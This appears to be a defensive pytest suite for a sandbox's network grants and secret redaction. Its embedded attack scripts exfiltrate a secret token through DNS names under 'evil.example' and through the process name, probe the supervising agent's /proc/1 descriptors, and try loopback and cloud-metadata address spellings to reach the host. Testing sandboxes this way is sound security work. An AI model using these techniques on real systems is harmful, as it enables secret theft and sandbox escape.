"""Attacks on the network grants: on the agent, on the record, and on what is said of secrets."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
from collections.abc import Iterator, Sequence
from ipaddress import ip_address
from pathlib import Path

import pytest

import omnibase
from omnibase import EventBus, ExecutionContext, RunResult
from omnibase.core import events
from omnibase.core.sandbox import bundle
from omnibase.core.sandbox.egress import resolver
from omnibase.errors import SandboxError
from tests.helpers.egress import echo, server
from tests.security.harness import SCRIPTS, Outcome, SandboxFixture, observed

pytestmark = pytest.mark.egress

WILD = "*.wild.example"


@pytest.fixture(autouse=True)
def asked(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What the host was asked for; each name stands for its loopback."""
    names: list[str] = []

    def look_up(name: str) -> Sequence[str]:
        names.append(name)
        return ["127.0.0.1"]

    monkeypatch.setattr(resolver, "look_up", look_up)
    return names


@pytest.fixture
def port() -> Iterator[int]:
    """A server on the host's loopback that sends back what it gets."""
    with server(echo) as number:
        yield number


def grants(port: int, *hosts: str) -> list[str]:
    """The literal grant is what lets a name of the test stand for the loopback."""
    return [f"NETWORK_CONNECT:{host}:{port}" for host in (*hosts, "127.0.0.1")]


def with_secret(value: str, source: str, *caps: str) -> Outcome:
    def run(bus: EventBus) -> RunResult:
        return omnibase.run(
            source.encode(), capabilities=["SECRET_ACCESS:TOKEN", *caps],
            secrets={"TOKEN": value}, context=ExecutionContext(on_violation="record"), bus=bus,
        )  # fmt: skip

    return observed(run)


@pytest.mark.threat("T-EXEC-17")
class TestTheRecord:
    def test_each_name_that_the_host_is_asked_for_is_on_it(
        self, sandbox: SandboxFixture, asked: list[str], port: int
    ) -> None:
        """Under a wildcard a name can carry something out, even if nothing is ever sent."""
        source = b"""
import os, select, socket, struct, sys
for number in range(8):
    client = socket.socket()
    client.setblocking(False)
    try: client.connect((socket.gethostbyname(f"data-{number}.wild.example"), int(sys.argv[1])))
    except BlockingIOError: pass
    select.select([], [client], [], 5)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    client.close()
last = socket.create_connection(("data-8.wild.example", int(sys.argv[1])))
os._exit(0)
"""
        outcome = sandbox.source(source, grants(port, WILD), args=[str(port)])

        outcome.assert_clean()
        made = outcome.reported(events.EgressOpened)
        told = {event.target for event in made + outcome.reported(events.EgressFailed)}
        assert {f"{name}:{port}" for name in asked} <= told
        assert told == {f"data-{number}.wild.example:{port}" for number in range(9)}

    @pytest.mark.threat("T-EXEC-10")
    @pytest.mark.parametrize("host", ["evil.example", "wild.example"])
    def test_a_secret_in_a_host_is_not_told(self, port: int, host: str) -> None:
        value = "AbCdEf-GhIjKl-77"
        outcome = with_secret(
            value,
            "import socket\nv = open('/run/secrets/TOKEN').read()\n"
            f"try: socket.create_connection((v + '.{host}', {port}))\n"
            "except OSError: pass\n"
            f"try: socket.create_connection(('x' * 250 + v, {port}))\n"
            "except (OSError, UnicodeError): pass\n",
            *grants(port, WILD),
        )  # fmt: skip

        said = " ".join(event.to_json() for event in outcome.events) + repr(outcome.result)
        assert f"***TOKEN***.{host}" in said
        assert value[:8] not in said
        assert value[:8].lower() not in said

    @pytest.mark.threat("T-EXEC-10")
    def test_the_name_of_a_process_is_cut_and_so_is_a_value_in_it(self) -> None:
        value = "AbCdEf-GhIjKl-7-and-more"
        outcome = with_secret(
            value,
            "import ctypes\nv = open('/run/secrets/TOKEN').read()\n"
            "ctypes.CDLL(None).prctl(15, v.encode(), 0, 0, 0)\n"
            "try: open('/data/x')\nexcept OSError: pass\n",
        )

        found = outcome.assert_violation("FILE_READ:/data/x")
        assert found.process_name == "***TOKEN***"
        said = " ".join(event.to_json() for event in outcome.events)
        assert value[:8] not in said


@pytest.mark.threat("T-EXEC-07")
def test_an_address_is_the_hosts_own_wherever_its_routes_say_so() -> None:
    hosts = ["9.9.9.1", "9.9.9.7", "2600::1", "8.8.8.8", "2600::2"]
    command = [sys.executable, str(SCRIPTS / "own_addresses.py"), *hosts]
    root = str(Path(__file__).parents[2])
    done = subprocess.run(
        command, env={**os.environ, "PYTHONPATH": root}, capture_output=True, check=True
    )
    own, foreign = [True, True], [False, False]
    assert list(json.loads(done.stdout).values()) == [own, own, own, foreign, foreign]


@pytest.mark.threat("T-EXEC-07")
def test_no_name_and_no_spelling_leads_to_the_host(
    sandbox: SandboxFixture, host_address: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the widest grant there is, on just the port where the host listens on everything."""
    host = ip_address(host_address)
    number = int(host).to_bytes(4, "big").hex()
    answers = [
        ["127.0.0.1"], ["127.9.9.9"], ["0.0.0.0"], ["::"], ["::1"], [host_address],
        ["::ffff:127.0.0.1"], [f"::ffff:{host_address}"], ["::127.0.0.1"],
        ["64:ff9b::7f00:1"], ["2002:7f00:1::"], [f"2002:{number[:4]}:{number[4:]}::"],
        ["fe80::1%lo"], ["fe80::1"], ["fd00:ec2::254"], ["169.254.169.254"], ["100.100.100.200"],
        ["168.63.129.16"], ["192.0.2.53"], ["198.18.0.1"], ["255.255.255.255"], ["224.0.0.1"],
        ["8.8.8.8", "127.0.0.1"], ["2600::1", "::1"], ["127.1"], ["0x7f.0.0.1"], ["2130706433"],
        ["localhost"], ["8.8.8.8\x00127.0.0.1"], [""],
    ]  # fmt: skip
    table = {f"n{n}.any.example": answer for n, answer in enumerate(answers)}
    table["twin.any.example"] = ["127.0.0.1"]
    monkeypatch.setattr(resolver, "look_up", table.__getitem__)
    literal = ["127.0.0.1", host_address, "169.254.169.254", "127.0.0.2", "10.0.0.1",
               "198.19.0.1", "100.64.0.1", "::1", "fe80::1", "64:ff9b::7f00:1", "2002:7f00:1::",
               f"::ffff:{host_address}", "0.0.0.0", "::", "192.0.2.53", "224.0.0.1"]  # fmt: skip
    source = b"""
import json, socket, sys
port, reached = int(sys.argv[1]), []
for host in sys.argv[2:]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            found = socket.getaddrinfo(host, port, type=kind)
        except OSError:
            continue
        for family, _, _, _, address in found:
            with socket.socket(family, kind) as client:
                client.settimeout(0.05 if kind == socket.SOCK_DGRAM else 10)
                try:
                    client.connect(address)
                    client.sendall(b"hello")
                    if client.recv(5): reached.append(host)
                except OSError: pass
print(json.dumps({"reached": reached}))
"""
    with contextlib.ExitStack() as stack:
        everything = stack.enter_context(socket.socket(socket.AF_INET6))
        everything.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        everything.bind(("::", 0))
        port = everything.getsockname()[1]
        everything.listen()
        datagrams = stack.enter_context(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
        datagrams.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        datagrams.bind(("::", port))
        outcome = sandbox.source(
            source,
            [f"NETWORK_CONNECT:*:{port}"],
            args=[str(port), *list(table)[:-1], *literal],
            on_violation="record",
        )
        for own in (everything, datagrams):
            own.setblocking(False)
        with pytest.raises(BlockingIOError):
            everything.accept()
        with pytest.raises(BlockingIOError):
            datagrams.recv(1)
    with server(echo, port=port):
        twin = sandbox.source(
            source,
            [f"NETWORK_CONNECT:*:{port}", f"NETWORK_CONNECT:127.0.0.1:{port}"],
            args=[str(port), "twin.any.example"],
            on_violation="record",
        )
    assert outcome.report["reached"] == []
    assert outcome.reported(events.EgressOpened) == []
    denied = {v.capability for v in outcome.violations if v.evidence == "broker"}
    for name in list(table)[:-2]:  # the last has no address at all
        assert f"NETWORK_CONNECT:{name}:{port}" in denied, table[name]
    for address in ("127.0.0.1", host_address, "169.254.169.254", "[fe80::1]"):
        assert f"NETWORK_CONNECT:{address}:{port}" in {v.capability for v in outcome.violations}
    assert "twin.any.example" in twin.report["reached"]
    assert [e.address for e in twin.reported(events.EgressOpened)] == ["127.0.0.1"]


@pytest.mark.threat("T-EXEC-08")
class TestTheAgent:
    def test_nothing_that_it_holds_can_be_opened(self, port: int) -> None:
        """Its channel, its listeners, and its watch over the secrets."""
        outcome = with_secret(
            "a-value-to-watch",
            """
import json, os
report = {}
for number in os.listdir("/proc/1/fd"):
    for path in (f"/proc/1/fd/{number}", f"/proc/1/task/1/fd/{number}"):
        for flags in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR):
            try: report[path] = os.open(path, flags | os.O_NONBLOCK)
            except OSError: pass
        try:
            held = os.open(path, os.O_PATH)
            report[path] = os.open(f"/proc/self/fd/{held}", os.O_RDWR | os.O_NONBLOCK)
        except OSError: pass
for name in ("root", "cwd", "mem", "task/1/root"):
    try: report[name] = os.open(f"/proc/1/{name}", os.O_RDONLY)
    except OSError: pass
raised = os.stat("/run/raised")  # the script's own to write, and nobody's to read
for name, fd in list(report.items()):
    if os.path.samestat(os.fstat(fd), raised):
        try: os.read(fd, 1)
        except OSError: del report[name]
print(json.dumps({"opened": report, "seen": len(os.listdir("/proc/1/fd"))}))
""",
            *grants(port, "*"),
        )

        assert outcome.report["seen"] > 8
        assert outcome.report["opened"] == {}
        outcome.assert_violation("FILE_READ:/proc/1/root", operation="open")

    def test_an_address_that_the_script_took_first(
        self, sandbox: SandboxFixture, port: int
    ) -> None:
        """The next name under a wildcard would be given it, and be listened for there."""
        source = b"""
import socket, sys
port = int(sys.argv[1])
own = socket.create_server(("198.18.1.0", port))
try: socket.create_connection(("a.wild.example", port))
except OSError as error: print(type(error).__name__)
own.close()
client = socket.create_connection(("a.wild.example", port))
client.sendall(b"hello")
print(client.recv(5).decode())
"""
        outcome = sandbox.source(source, grants(port, WILD), args=[str(port)])

        outcome.assert_clean()
        assert outcome.stdout.split() == ["gaierror", "hello"]

    def test_a_name_that_two_grants_cover_has_the_ports_of_both(
        self, sandbox: SandboxFixture, port: int
    ) -> None:
        source = b"""
import socket, sys
for number in sys.argv[1:]:
    for host in ("a.wild.example", "b.wild.example"):
        try:
            client = socket.create_connection((host, int(number)))
            client.sendall(b"hello")
            print(client.recv(5).decode())
        except OSError as error: print(type(error).__name__)
"""
        with server(echo) as other:
            outcome = sandbox.source(
                source,
                grants(port, "a.wild.example") + grants(other, WILD),
                args=[str(port), str(other)],
                on_violation="record",
            )

        assert outcome.stdout.split() == ["hello", "ConnectionRefusedError", "hello", "hello"]
        outcome.assert_violation(f"NETWORK_CONNECT:b.wild.example:{port}", operation="connect")
        assert len(outcome.violations) == 1

    def test_a_listener_beside_it_takes_nothing(self, sandbox: SandboxFixture, port: int) -> None:
        source = b"""
import socket, sys
port = int(sys.argv[1])
own = []
for address in ("198.18.0.1", "127.0.0.1", "0.0.0.0", "::"):
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        taken = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
        taken.setsockopt(socket.SOL_SOCKET, option, 1)
        try:
            taken.bind((address, port))
            taken.listen()
            own.append(taken)
        except OSError: pass
for host in ("exact.example", "127.0.0.1"):
    client = socket.create_connection((host, port))
    client.sendall(b"hello")
    print(client.recv(5).decode())
"""
        outcome = sandbox.source(source, grants(port, "exact.example"), args=[str(port)])

        outcome.assert_clean()
        assert outcome.stdout.split() == ["hello", "hello"]

    def test_its_failure_is_not_an_exit_of_the_script(
        self, sandbox: SandboxFixture, port: int, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        rows = ["", WILD, "70000", "70000"]
        monkeypatch.setattr(bundle, "agent_rows", lambda _grants: rows)
        outcome = sandbox.source(
            b"import socket, time\nsocket.gethostbyname('a.wild.example')\ntime.sleep(20)",
            grants(port, WILD),
        )
        assert isinstance(outcome.error, SandboxError)
        assert "agent failed" in str(outcome.error)
        assert b"OverflowError" in outcome.finished.stderr
